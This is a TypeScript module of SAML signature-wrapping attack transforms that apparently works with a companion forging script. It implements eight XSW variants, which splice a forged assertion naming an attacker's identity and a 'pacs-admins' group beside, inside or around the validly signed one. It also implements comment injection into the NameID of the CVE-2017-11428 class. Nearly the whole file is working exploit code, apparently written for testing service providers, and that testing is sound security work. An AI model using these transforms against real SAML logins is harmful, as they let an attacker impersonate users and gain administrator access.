/**
 * Signature-wrapping (XSW) and tampering transforms over a Response built by saml-forge.ts. Each takes
 * the signed Response XML and an attacker's NameID and returns XML where the original signature still
 * verifies over the original assertion while an evil one sits where a careless SP would read it
 * (Somorovsky et al., "On Breaking SAML: Be Whoever You Want to Be", USENIX Security 2012).
 */

const OPEN = '<saml:Assertion ';
const CLOSE = '</saml:Assertion>';

/** The one assertion of a forged Response, with the text before and after it. */
export function splitAssertion(xml: string): { before: string; assertion: string; after: string } {
  const start = xml.indexOf(OPEN);
  const end = xml.lastIndexOf(CLOSE) + CLOSE.length;
  if (start < 0 || end < CLOSE.length) throw new Error('no saml:Assertion in the forged XML');
  return { before: xml.slice(0, start), assertion: xml.slice(start, end), after: xml.slice(end) };
}

const SIGNATURE = /<ds:Signature\b[\s\S]*?<\/ds:Signature>/;

export function signatureOf(element: string): string {
  const m = SIGNATURE.exec(element);
  if (!m) throw new Error('element is not signed');
  return m[0];
}

/**
 * The attacker's copy of the signed assertion: another NameID and groups, its signature removed,
 * and a fresh ID unless `keepId` (then the ID collides with the signed one).
 */
export function evilAssertion(signed: string, evilNameId: string, opts: { keepId?: boolean } = {}): string {
  let evil = signed
    .replace(SIGNATURE, '')
    .replace(/(<saml:NameID\b[^>]*>)[^<]*(<\/saml:NameID>)/, `$1${evilNameId}$2`)
    .replace(
      /<saml:AttributeValue>[^<]*<\/saml:AttributeValue>/g,
      '<saml:AttributeValue>pacs-admins</saml:AttributeValue>',
    );
  if (!opts.keepId) evil = evil.replace(/ ID="[^"]*"/, ' ID="_evil-assertion"');
  return evil;
}

type Wrap = (signedResponse: string, evilNameId: string) => string;

/** The XSW family; each name says where the signed and the evil assertion end up. */
export const WRAPPING_ATTACKS: Record<string, Wrap> = {
  'evil assertion before the signed one': (xml, nameId) => {
    const { before, assertion, after } = splitAssertion(xml);
    return before + evilAssertion(assertion, nameId) + assertion + after;
  },
  'evil assertion after the signed one': (xml, nameId) => {
    const { before, assertion, after } = splitAssertion(xml);
    return before + assertion + evilAssertion(assertion, nameId) + after;
  },
  'evil assertion inside the signed one': (xml, nameId) => {
    const { before, assertion, after } = splitAssertion(xml);
    const evil = evilAssertion(assertion, nameId);
    return before + assertion.slice(0, -CLOSE.length) + evil + CLOSE + after;
  },
  'signed assertion inside the evil one': (xml, nameId) => {
    const { before, assertion, after } = splitAssertion(xml);
    const evil = evilAssertion(assertion, nameId);
    return before + evil.slice(0, -CLOSE.length) + assertion + CLOSE + after;
  },
  'signed assertion moved into Response Extensions': (xml, nameId) => {
    const { before, assertion, after } = splitAssertion(xml);
    const extensions = `<samlp:Extensions>${assertion}</samlp:Extensions>`;
    const withExt = before.replace(/(<samlp:Status>)/, `${extensions}$1`);
    return withExt + evilAssertion(assertion, nameId) + after;
  },
  'signed assertion in a ds:Object of the evil one, signature copied': (xml, nameId) => {
    const { before, assertion, after } = splitAssertion(xml);
    const sig = signatureOf(assertion);
    const wrapped = sig.replace('</ds:Signature>', `<ds:Object>${assertion}</ds:Object></ds:Signature>`);
    const evil = evilAssertion(assertion, nameId, { keepId: true }).replace(/(<\/saml:Issuer>)/, `$1${wrapped}`);
    return before + evil + after;
  },
  'signature copied into the evil assertion (same ID), original removed': (xml, nameId) => {
    const { before, assertion, after } = splitAssertion(xml);
    const evil = evilAssertion(assertion, nameId, { keepId: true }).replace(
      /(<\/saml:Issuer>)/,
      `$1${signatureOf(assertion)}`,
    );
    return before + evil + after;
  },
  'signature copied into the evil assertion (new ID), original removed': (xml, nameId) => {
    const { before, assertion, after } = splitAssertion(xml);
    const evil = evilAssertion(assertion, nameId).replace(/(<\/saml:Issuer>)/, `$1${signatureOf(assertion)}`);
    return before + evil + after;
  },
};

/**
 * Comment injection (CVE-2017-11428 class): a comment inside the signed NameID text. Exclusive C14N
 * drops comments, so the signature still verifies; an SP reading only the first text node would see
 * a shorter, different identity.
 */
export function injectNameIdComment(xml: string, atChar: number): string {
  return xml.replace(
    /(<saml:NameID\b[^>]*>)([^<]*)(<\/saml:NameID>)/,
    (_all, open: string, text: string, close: string) =>
      `${open}${text.slice(0, atChar)}<!---->${text.slice(atChar)}${close}`,
  );
}
